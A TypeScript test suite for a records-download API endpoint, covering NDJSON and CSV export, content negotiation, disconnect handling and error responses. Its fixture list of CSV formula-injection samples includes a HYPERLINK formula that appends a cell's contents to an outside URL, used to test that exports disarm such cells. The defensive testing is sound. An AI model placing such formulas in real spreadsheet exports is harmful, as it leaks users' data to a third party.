import { request } from "node:http";
import { expect } from "chai";
import { rowColumns } from "../../ledger/history/run-rows.ts";
import type { Run } from "../../ledger/runs/run.ts";
import { disarmFormulas } from "../../records/spreadsheet-cells.ts";
import { userType } from "../../types/user/user.ts";
import { draftOf, range, recordsOf, storeNext } from "../setup/batches.ts";
import { eventually } from "../setup/eventually.ts";
import { plannedRun } from "../setup/runs.ts";
import { badFields, expectProblem, webForSuite } from "./web-server.ts";

describe("GET /api/runs/:id/records", () => {
  const web = webForSuite();
  /** More than two slices, out of order, in two partitions. */
  const count = 11_000;
  let run: Run;

  before(async () => {
    ({ run } = await plannedRun(web().pool, {
      count,
      chunkSize: 5_500,
      fields: ["name", "email", "date"],
    }));
    await storeNext(web().pool, recordsOf(run, range(5_500, count)), { partition: 1 });
    const special = { name: 'Ann "A", of\nSt. Ives \\ co', email: "é@example.org", date: "2026-02-30" };
    const records = recordsOf(run, range(0, 5_500));
    await storeNext(web().pool, [
      ...records.slice(0, 3),
      draftOf(run.id, 3, JSON.stringify(special)),
      draftOf(run.id, 4, "no record"),
      ...records.slice(5),
    ]);
  });

  const rows = async (): Promise<Record<string, unknown>[]> => {
    const result = await web().pool.query<Record<string, unknown> & { event_time: Date | null }>(
      "SELECT seq, name, email, event_time, error FROM users_raw WHERE run_id = $1 ORDER BY seq",
      [run.id],
    );
    return result.rows.map((row) => ({ ...row, event_time: row.event_time?.toISOString() ?? null }));
  };
  const path = (format?: string): string =>
    `/api/runs/${run.id}/records${format === undefined ? "" : `?format=${format}`}`;

  it("gives every row as NDJSON, in the order of the sequence numbers", async () => {
    const response = await web().get(path("ndjson"));
    expect(response.status).to.equal(200);
    expect(response.headers.get("content-type")).to.equal("application/x-ndjson; charset=utf-8");
    expect(response.headers.get("content-disposition")).to.equal(
      `attachment; filename="run-${run.id}.ndjson"`,
    );
    const lines = (await response.text()).trimEnd().split("\n");
    expect(lines).to.have.length(count - 1);
    expect(lines.map((line) => JSON.parse(line) as unknown)).to.deep.equal(await rows());
  });

  it("gives the same as CSV", async () => {
    const response = await web().get(path("csv"), { Accept: "application/x-ndjson" });
    expect(response.headers.get("content-type")).to.equal("text/csv; charset=utf-8; header=present");
    const [head, ...lines] = readCsv(await response.text());
    expect(head).to.deep.equal(rowColumns(userType, run.fields));
    expect(head).to.deep.equal(["seq", "name", "email", "event_time", "error"]);
    const expected = (await rows()).map((row) =>
      Object.values(row).map((value) => (value === null ? "" : String(value))),
    );
    expect(lines).to.deep.equal(expected);
  });

  for (const [accept, type] of [
    ["*/*", "application/x-ndjson"],
    ["text/csv", "text/csv"],
    ["text/csv;q=0.5, application/x-ndjson", "application/x-ndjson"],
  ] as const) {
    it(`answers Accept: ${accept} with ${type}`, async () => {
      const response = await web().get(path(), { Accept: accept });
      expect(response.headers.get("content-type")).to.match(new RegExp(`^${type}`));
      expect(response.headers.get("vary")).to.include("Accept");
      await response.body?.cancel();
    });
  }

  it("gives CSV in which no cell begins a formula, where it is asked for", async () => {
    const { run: hostile } = await plannedRun(web().pool, {
      count: hostileTexts.length,
      chunkSize: hostileTexts.length,
      fields: ["name", "job"],
    });
    const texts = hostileTexts.map((name, seq) => JSON.stringify({ name, job: hostileTexts.at(-1 - seq) }));
    await storeNext(
      web().pool,
      texts.map((text, seq) => draftOf(hostile.id, seq, text)),
    );
    const download = async (query: string): Promise<string[][]> =>
      readCsv(await (await web().get(`/api/runs/${hostile.id}/records?${query}`)).text());
    const cells = await download("format=csv");
    expect(cells.slice(1).map(([, name]) => name)).to.deep.equal(hostileTexts);
    const safe = await download("format=csv&safe=spreadsheet");
    expect(safe).to.deep.equal(cells.map((line) => line.map(disarmFormulas)));
    expect(safe.flat().filter((cell) => /^ *[=+@\-\t\r\n＝＋－＠]/.test(cell))).to.deep.equal([]);
  });

  it("knows no other kind of safe, and no cells in NDJSON", async () => {
    const refused = await web().get(`${path("csv")}&safe=yes`);
    expect(badFields(await expectProblem(refused, "invalid-request"))).to.deep.equal(["safe"]);
    const [safe, plain] = [
      await web().get(`${path("ndjson")}&safe=spreadsheet`),
      await web().get(path("ndjson")),
    ];
    expect(await safe.text()).to.equal(await plain.text());
  });

  it("of a run without rows is only the head", async () => {
    const { run: empty } = await plannedRun(web().pool, { fields: ["country"] });
    expect(await (await web().get(`/api/runs/${empty.id}/records?format=csv`)).text()).to.equal(
      "seq,country,error\n",
    );
    const response = await web().get(`/api/runs/${empty.id}/records`);
    expect(response.status).to.equal(200);
    expect(await response.text()).to.equal("");
  });

  it("answers HEAD with the head alone", async () => {
    const response = await fetch(web().url + path("csv"), { method: "HEAD" });
    expect(response.status).to.equal(200);
    expect(response.headers.get("content-type")).to.match(/^text\/csv/);
  });

  it("reads no further for a reader that has hung up, and none waits for one that does not read", async () => {
    const reader = request(web().url + path("ndjson"));
    await new Promise<void>((resolve, reject) => {
      reader
        .on("response", (response) => response.once("data", () => resolve()))
        .on("error", reject)
        .end();
    });
    reader.destroy();
    // Neither a connection nor a transaction is left behind.
    await eventually(async () => {
      const { rows: busy } = await web().pool.query(
        "SELECT 1 FROM pg_stat_activity WHERE application_name = 'web-downloads' AND datname = current_database() AND state <> 'idle'",
      );
      expect(busy).to.deep.equal([]);
    });
    const stopped = Array.from({ length: 4 }, () => {
      const idle = request(web().url + path("ndjson"));
      idle
        .on("response", (response) => response.pause())
        .on("error", () => undefined)
        .end();
      return idle;
    });
    const response = await web().get(path("ndjson"));
    expect((await response.text()).trimEnd().split("\n")).to.have.length(count - 1);
    for (const idle of stopped) idle.destroy();
  });

  it("refuses what it has no format for, and what is no run", async () => {
    await expectProblem(await web().get(path(), { Accept: "application/pdf" }), "not-acceptable");
    const problem = await expectProblem(await web().get(path("xlsx")), "invalid-request");
    expect(badFields(problem)).to.deep.equal(["format"]);
    expect(problem.detail).to.include("csv, ndjson");
    await expectProblem(await web().get("/api/runs/nonsense/records"), "not-found");
    const unknown = "00000000-0000-7000-8000-000000000000";
    await expectProblem(await web().get(`/api/runs/${unknown}/records`), "not-found");
    expect((await web().post(path())).status).to.equal(405);
  });
});

/** Cells that a spreadsheet would calculate, and some that it would not. */
const hostileTexts = [
  '=HYPERLINK("http://example.org?"&A1,"Ann")',
  "+351912345678",
  "-1+1",
  "@SUM(A1)",
  "  =1+1",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠A1",
  "Ann;=1+1",
  'Ann"; =1+1',
  "a\n-b\tc",
  "Ann-Marie O'Neil = 1 + 1",
  "'=quoted",
  "é=1",
];

/** CSV by RFC 4180, as far as PostgreSQL writes it. */
function readCsv(text: string): string[][] {
  const lines: string[][] = [];
  let line: string[] = [];
  for (const [whole, quoted, plain = "", end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\n]*))(,|\n|$)/g)) {
    if (whole === "" && line.length === 0) continue;
    line.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end === ",") continue;
    lines.push(line);
    line = [];
  }
  return lines;
}
